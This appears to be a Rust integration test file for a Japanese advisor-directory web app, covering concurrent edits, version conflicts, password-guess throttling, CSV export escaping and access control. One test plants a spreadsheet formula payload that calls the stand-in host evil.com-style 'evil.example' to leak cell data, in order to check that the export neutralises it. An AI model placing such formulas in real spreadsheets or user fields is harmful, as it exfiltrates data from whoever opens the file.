//! Concurrent edits and races, on SQLite and PostgreSQL: two people editing one
//! record at once both keep their change, an edit of an older copy is refused,
//! parallel wrong passwords are throttled.

use crate::helpers::{TestApp, backends};

#[tokio::test]
async fn reliability_two_people_editing_different_fields_of_a_profile_at_once_both_keep_their_change()
 {
    for backend in backends() {
        let app = TestApp::spawn_bank(backend).await;
        let admin = app.signed_in("nara-admin@renkei.example").await;
        let advisor = app.signed_in("advisor1@renkei.example").await;
        let url = app.url("/api/advisors/1");
        for attempt in 0..10 {
            let affiliation = format!("奈良県DX推進課 {attempt}");
            let bio = format!("窓口のデジタル化を支援しています。その{attempt}");
            let (a, b) = tokio::join!(
                admin
                    .patch(&url)
                    .json(&serde_json::json!({ "affiliation": affiliation }))
                    .send(),
                advisor
                    .patch(&url)
                    .json(&serde_json::json!({ "bio": bio }))
                    .send(),
            );
            assert_eq!(a.expect("admin").status(), 200, "{backend:?}");
            assert_eq!(b.expect("advisor").status(), 200, "{backend:?}");
            let (_, profile) = app.get_json("/api/advisors/1").await;
            assert_eq!(
                profile["affiliation"], affiliation,
                "{backend:?} try {attempt}"
            );
            assert_eq!(profile["bio"], bio, "{backend:?} try {attempt}");
        }
    }
}

#[tokio::test]
async fn reliability_an_edit_made_from_an_older_copy_is_refused_with_409_and_changes_nothing() {
    for backend in backends() {
        let app = TestApp::spawn_bank(backend).await;
        let admin = app.signed_in("nara-admin@renkei.example").await;
        let url = app.url("/api/advisors/1");
        let read = admin.get(&url).send().await.expect("get");
        let etag = read.headers()["etag"].to_str().expect("etag").to_owned();
        let copy: serde_json::Value = read.json().await.expect("json");
        assert_eq!(etag, format!("\"{}\"", copy["version"]));

        let first = admin
            .patch(&url)
            .header("if-match", &etag)
            .json(&serde_json::json!({ "bio": "先に保存した紹介文" }))
            .send()
            .await
            .expect("first");
        assert_eq!(first.status(), 200, "{backend:?}");
        let stale = admin
            .patch(&url)
            .header("if-match", &etag)
            .json(&serde_json::json!({ "bio": "古い画面から保存した紹介文" }))
            .send()
            .await
            .expect("stale");
        assert_eq!(stale.status(), 409, "{backend:?}");
        let body: serde_json::Value = stale.json().await.expect("json");
        insta::allow_duplicates! {
            insta::assert_json_snapshot!(body, @r#"
            {
              "error": {
                "code": "conflict",
                "field": "version",
                "message": "この内容は、画面を開いた後にほかの人が変更しました。最新の内容を読み込み直してから、もう一度変更してください。"
              }
            }
            "#)
        }
        let stale_body = admin
            .patch(&url)
            .json(&serde_json::json!({ "bio": "版番号つきの古い保存", "version": copy["version"] }))
            .send()
            .await
            .expect("stale body");
        assert_eq!(stale_body.status(), 409, "{backend:?}");
        let (_, profile) = app.get_json("/api/advisors/1").await;
        assert_eq!(profile["bio"], "先に保存した紹介文");

        // The account page's deactivate button carries the version it showed.
        let id = app.account_id("miyake@renkei.example").await;
        let (_, account) = app
            .get_json_as(&admin, &format!("/api/accounts/{id}"))
            .await;
        let changed = admin
            .patch(app.url(&format!("/api/accounts/{id}")))
            .json(&serde_json::json!({ "active": false, "version": account["version"] }))
            .send()
            .await
            .expect("deactivate");
        assert_eq!(changed.status(), 200, "{backend:?}");
        let again = admin
            .patch(app.url(&format!("/api/accounts/{id}")))
            .json(&serde_json::json!({ "active": true, "version": account["version"] }))
            .send()
            .await
            .expect("stale reactivate");
        assert_eq!(again.status(), 409, "{backend:?}");
    }
}

#[tokio::test]
async fn reliability_a_profile_form_saved_from_an_older_page_is_refused_and_keeps_what_was_typed() {
    let app = TestApp::spawn_bank(crate::helpers::Backend::Sqlite).await;
    let admin = app.signed_in("nara-admin@renkei.example").await;
    let (_, page) = {
        let response = admin
            .get(app.url("/advisors/1/edit"))
            .send()
            .await
            .expect("page");
        (
            response.status(),
            scraper::Html::parse_document(&response.text().await.expect("html")),
        )
    };
    let selector = scraper::Selector::parse("input[name=version]").expect("selector");
    let version = page
        .select(&selector)
        .next()
        .and_then(|e| e.value().attr("value"))
        .expect("the form carries the version it was filled from")
        .to_owned();
    let moved = admin
        .patch(app.url("/api/advisors/1"))
        .json(&serde_json::json!({ "bio": "別の画面で保存" }))
        .send()
        .await
        .expect("other edit");
    assert_eq!(moved.status(), 200);
    let token = app.form_token(&admin, "/advisors/1/edit").await;
    let response = admin
        .post(app.url("/advisors/1/edit"))
        .header("accept", "text/html")
        .multipart(
            reqwest::multipart::Form::new()
                .text("csrf_token", token)
                .text("version", version)
                .text("name", "山田 太郎")
                .text("kana", "ヤマダ タロウ")
                .text("bio", "古い画面で書いた紹介文"),
        )
        .send()
        .await
        .expect("post");
    assert_eq!(response.status(), 303);
    let flash = app.flash(&response).await.expect("flash");
    assert!(!flash.success);
    assert_eq!(flash.field.as_deref(), Some("version"));
    assert_eq!(
        flash.values.get("bio").map(String::as_str),
        Some("古い画面で書いた紹介文")
    );
    let (_, profile) = app.get_json("/api/advisors/1").await;
    assert_eq!(profile["bio"], "別の画面で保存");
}

#[tokio::test]
async fn reliability_forty_simultaneous_wrong_passwords_reach_the_check_at_most_five_times() {
    for backend in backends() {
        let app = TestApp::spawn_with_accounts(backend).await;
        let attempts = (0..40).map(|n| {
            let client = app.browser();
            let url = app.url("/api/session");
            async move {
                client
                    .post(url)
                    .json(&serde_json::json!({
                        "email": "miyake@renkei.example",
                        "password": format!("wrong-guess-{n}"),
                    }))
                    .send()
                    .await
                    .expect("sign in")
                    .status()
                    .as_u16()
            }
        });
        let statuses = futures_util::future::join_all(attempts).await;
        let checked = statuses.iter().filter(|s| **s == 401).count();
        let throttled = statuses.iter().filter(|s| **s == 429).count();
        assert!(
            checked <= 5,
            "{backend:?}: {checked} reached the password check"
        );
        assert_eq!(checked + throttled, 40, "{backend:?}: {statuses:?}");
        let right = app
            .sign_in_with(
                &app.browser(),
                "miyake@renkei.example",
                crate::helpers::PASSWORD,
            )
            .await;
        assert_eq!(right.status(), 429, "{backend:?}: still locked");
        let admin_db = &app.db;
        use sea_orm::{ColumnTrait, EntityTrait, PaginatorTrait, QueryFilter};
        let throttled_rows = app::entities::audit_log::Entity::find()
            .filter(app::entities::audit_log::Column::Action.eq("login_throttled"))
            .count(admin_db)
            .await
            .expect("count");
        assert_eq!(
            throttled_rows, 1,
            "{backend:?}: refusals are audited once a minute, not once a request"
        );
    }
}

#[tokio::test]
async fn reliability_guessing_the_current_password_of_a_password_change_is_throttled_and_audited() {
    let app = TestApp::spawn_with_accounts(crate::helpers::Backend::Sqlite).await;
    let user = app.signed_in("miyake@renkei.example").await;
    let mut statuses = Vec::new();
    for n in 0..7 {
        let response = user
            .put(app.url("/api/me/password"))
            .json(&serde_json::json!({
                "current_password": format!("guess-{n}"),
                "new_password": "a-new-password-2027",
            }))
            .send()
            .await
            .expect("change");
        statuses.push(response.status().as_u16());
    }
    assert!(
        statuses[..5].iter().all(|s| *s == 400 || *s == 403),
        "{statuses:?}"
    );
    assert_eq!(statuses[5..], [429, 429], "{statuses:?}");
    let admin = app.signed_in("nara-admin@renkei.example").await;
    let (_, audit) = app
        .get_json_as(&admin, "/api/audit?action=password_change_failed")
        .await;
    // Five wrong passwords, then one entry for the refusals of that minute.
    assert_eq!(audit["total"], 6, "{audit}");
}

#[tokio::test]
async fn a_bio_that_looks_like_a_formula_reaches_excel_as_text_and_imports_back_unchanged() {
    let app = TestApp::spawn_bank(crate::helpers::Backend::Sqlite).await;
    let admin = app.signed_in("nara-admin@renkei.example").await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")";
    let edited = admin
        .patch(app.url("/api/advisors/1"))
        .json(&serde_json::json!({ "bio": formula, "contact_phone": "+81-742-11-2222" }))
        .send()
        .await
        .expect("edit");
    assert_eq!(edited.status(), 200);
    let csv = admin
        .get(app.url("/api/advisors/export.csv"))
        .send()
        .await
        .expect("export")
        .bytes()
        .await
        .expect("bytes");
    let text = std::str::from_utf8(&csv).expect("utf-8");
    assert!(text.starts_with('\u{feff}'), "BOM");
    assert!(text.contains("\r\n"), "CRLF");
    let mut reader =
        csv::ReaderBuilder::new().from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| {
            r.expect("record")
                .iter()
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .collect();
    assert!(
        cells
            .iter()
            .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
        "no cell starts a formula"
    );
    assert!(cells.iter().any(|c| c == &format!("'{formula}")));

    let imported = admin
        .post(app.url("/api/advisors/import"))
        .header("content-type", "text/csv")
        .body(csv.to_vec())
        .send()
        .await
        .expect("import");
    assert_eq!(imported.status(), 200);
    let report: serde_json::Value = imported.json().await.expect("json");
    assert_eq!(
        report["updated"], 0,
        "a round trip changes nothing: {report}"
    );
    let (_, profile) = app.get_json("/api/advisors/1").await;
    assert_eq!(profile["bio"], formula);
}

#[tokio::test]
async fn available_months_cannot_be_filtered_or_counted_by_anyone_who_may_not_read_them() {
    let app = TestApp::spawn_bank(crate::helpers::Backend::Sqlite).await;
    let (status, body) = app.get_json("/api/advisors?available=2027-01").await;
    assert_eq!(status, 403, "signed out: {body}");
    assert_eq!(body["error"]["field"], "available");
    let (status, body) = app
        .get_json("/api/search?kind=advisor&available=2027-01")
        .await;
    assert_eq!(status, 403, "{body}");
    let (_, list) = app.get_json("/api/advisors").await;
    assert!(
        list["facets"].get("available").is_none(),
        "no month counts signed out"
    );

    let kochi = app.signed_in("kochi-admin@renkei.example").await;
    let (_, other) = app
        .get_json_as(&kochi, "/api/advisors?prefecture=奈良県&available=2027-01")
        .await;
    assert_eq!(
        other["error"]["field"], "available",
        "another bank's months: {other}"
    );

    let miyake = app.signed_in("miyake@renkei.example").await;
    let (_, own) = app
        .get_json_as(&miyake, "/api/advisors?available=2027-01")
        .await;
    assert!(own["total"].as_u64().is_some(), "{own}");
    assert!(
        own["facets"]["available"]
            .as_array()
            .is_some_and(|v| !v.is_empty())
    );
    assert!(
        own["facets"]["prefecture"]
            .as_array()
            .expect("prefectures")
            .iter()
            .all(|p| p["value"] == "290009"),
        "narrowed to 奈良県's bank: {}",
        own["facets"]["prefecture"]
    );
}
